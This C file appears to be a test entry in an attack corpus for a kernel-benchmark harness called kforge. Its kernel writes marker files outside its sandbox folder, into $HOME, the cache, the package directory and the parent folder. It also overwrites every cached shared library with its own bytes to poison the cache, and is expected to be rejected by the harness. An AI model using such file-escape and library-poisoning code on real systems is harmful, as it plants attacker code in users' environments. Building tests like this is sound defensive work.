/* Attack corpus: Writes outside its folder: a file in $HOME, one next to the kforge package it finds in its
 * process's memory map, one in the kernel cache, and overwrites every cached library with its own
 * bytes (cache poisoning: the user's process would later load the attacker's code for an honest
 * winner). Then computes correctly, slowly. Expected: no file changed outside the runner's folder;
 * cached libraries still match their hashes; never FASTER. Screen: REJECTED. */
#define _GNU_SOURCE
#include <stdio.h>
#include <unistd.h>
#include <fcntl.h>
#include <dirent.h>
#include <dlfcn.h>
#include "kforge.h"
#include <stdlib.h>
#include <string.h>
#define ENTRY KF_ENTRY int kf_launch(const kf_tensor* in, int n_in, const kf_tensor* out, int n_out, \
                                     const double* params, int n_params, void* workspace, void* stream)
#define ROWS_COLS const float* x = (const float*)in[0].data; float* y = (float*)out[0].data; \
    int64_t cols = in[0].sizes[in[0].ndim - 1], rows = 1; \
    for (int d = 0; d < in[0].ndim - 1; ++d) rows *= in[0].sizes[d];

/* The honest path, made slow on purpose (REPEAT passes): an attack must never win on its own merit,
 * so any FASTER verdict for it is the attack working. */
static void softmax_slow(const float* x, float* y, int64_t rows, int64_t cols) {
    for (int rep = 0; rep < 6; ++rep)
        for (int64_t r = 0; r < rows; ++r) {
            const float* xr = x + r * cols; float* yr = y + r * cols;
            float m = KF_NEG_INF, s = 0.f;
            for (int64_t c = 0; c < cols; ++c) m = xr[c] > m ? xr[c] : m;
            for (int64_t c = 0; c < cols; ++c) { yr[c] = expf(xr[c] - m); s += yr[c]; }
            for (int64_t c = 0; c < cols; ++c) yr[c] /= s;
        }
}

static void touch(const char* path) {
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd >= 0) { (void)!write(fd, "pwned\n", 6); close(fd); }
}
static void poison_cache(const char* dir) {
    Dl_info info; if (!dladdr((void*)&touch, &info) || !info.dli_fname) return;
    int self = open(info.dli_fname, O_RDONLY); if (self < 0) return;
    static char buf[1 << 20]; ssize_t len = read(self, buf, sizeof buf); close(self);
    if (len <= 0) return;
    DIR* d = opendir(dir); if (!d) return;
    struct dirent* e;
    while ((e = readdir(d))) {
        size_t l = strlen(e->d_name);
        if (l < 4 || strcmp(e->d_name + l - 3, ".so")) continue;
        char p[1024]; snprintf(p, sizeof p, "%s/%s", dir, e->d_name);
        int fd = open(p, O_WRONLY | O_TRUNC); if (fd >= 0) { (void)!write(fd, buf, (size_t)len); close(fd); }
    }
    closedir(d);
}
static int done = 0;
ENTRY { ROWS_COLS
    if (!done) {
        done = 1;
        char p[1024];
        const char* home = getenv("HOME");
        if (home) { snprintf(p, sizeof p, "%s/kforge_attack_pwned.txt", home); touch(p); }
        const char* cache = getenv("KFORGE_CACHE");
        if (cache) {
            snprintf(p, sizeof p, "%s/kforge_attack_pwned.txt", cache); touch(p);
            snprintf(p, sizeof p, "%s/kernels/objects", cache); poison_cache(p);
            snprintf(p, sizeof p, "%s/kernels", cache); poison_cache(p);
        }
        FILE* maps = fopen("/proc/self/maps", "r");
        char line[1024];
        while (maps && fgets(line, sizeof line, maps)) {
            char* k = strstr(line, "/kforge/");
            if (!k) continue;
            char* start = strchr(line, '/'); if (!start) continue;
            k[8] = 0; snprintf(p, sizeof p, "%skforge_attack_pwned.py", start); touch(p); break;
        }
        if (maps) fclose(maps);
        touch("../kforge_attack_pwned.txt");
    }
    softmax_slow(x, y, rows, cols);
    return 0;
}
